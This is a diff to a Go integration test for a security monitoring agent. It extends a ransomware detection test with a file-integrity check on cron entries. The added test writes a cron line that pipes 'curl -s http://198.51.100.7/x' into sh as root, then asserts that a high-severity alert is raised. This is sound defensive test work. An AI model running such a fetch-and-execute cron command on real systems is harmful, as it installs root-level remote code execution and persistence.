@@ -223,10 +223,12 @@ func TestAgentRansomwareDetectionBecomesCriticalAlert(t *testing.T) {
 	state := filepath.Join(t.TempDir(), "agent.json")
 	run(t, "", "agent", "enroll", "--server", p.url, "--token", tok.Token, "--server-fingerprint", m[1], "--state", state)
 
-	share, www := t.TempDir(), t.TempDir()
+	share, www, etc := t.TempDir(), t.TempDir(), t.TempDir()
 	officeFiles(t, share, 200)
+	os.MkdirAll(filepath.Join(etc, "cron.d"), 0o755)
+	os.WriteFile(filepath.Join(etc, "cron.d", "sao-luu"), []byte("0 2 * * * root /usr/local/bin/sao-luu\n"), 0o644)
 	agentCmd := command("agent", "run", "--state", state, "--queue", filepath.Join(filepath.Dir(state), "queue"),
-		"--ransom-dir", share, "--ransom-respond", "kill", "--web-root", www)
+		"--ransom-dir", share, "--ransom-respond", "kill", "--web-root", www, "--fim-path", etc)
 	var logs syncBuffer
 	agentCmd.Stdout, agentCmd.Stderr = &logs, &logs
 	if err := agentCmd.Start(); err != nil {
@@ -306,5 +308,27 @@ func TestAgentRansomwareDetectionBecomesCriticalAlert(t *testing.T) {
 	})
 	if code, body := tlsRequest(t, p.url, "GET", "/api/v1/alerts?kind=webshell_suspected", other, nil); code != 200 || strings.Contains(string(body), "upload.php") {
 		t.Errorf("another agency's officer sees the web shell alert: %d %s", code, body)
+	}
+
+	// A changed cron entry becomes a high fim_changed alert with the diff.
+	time.Sleep(500 * time.Millisecond) // the baseline of the tiny folder
+	if err := os.WriteFile(filepath.Join(etc, "cron.d", "sao-luu"), []byte("0 2 * * * root curl -s http://198.51.100.7/x | sh\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	var fimID int64
+	eventually(t, "a fim_changed alert", func() bool {
+		code, body := tlsRequest(t, p.url, "GET", "/api/v1/alerts?kind=fim_changed", own, nil)
+		var page struct{ Items []alertItem }
+		json.Unmarshal(body, &page)
+		for _, a := range page.Items {
+			if a.Kind == "fim_changed" {
+				fimID = a.ID
+			}
+		}
+		return code == 200 && fimID != 0
+	})
+	code, body = tlsRequest(t, p.url, "GET", fmt.Sprintf("/api/v1/alerts/%d", fimID), own, nil)
+	if code != 200 || !strings.Contains(string(body), `"severity":"high"`) || !strings.Contains(string(body), "+0 2 * * * root curl") {
+		t.Errorf("fim alert: %d %s", code, body)
 	}
 }
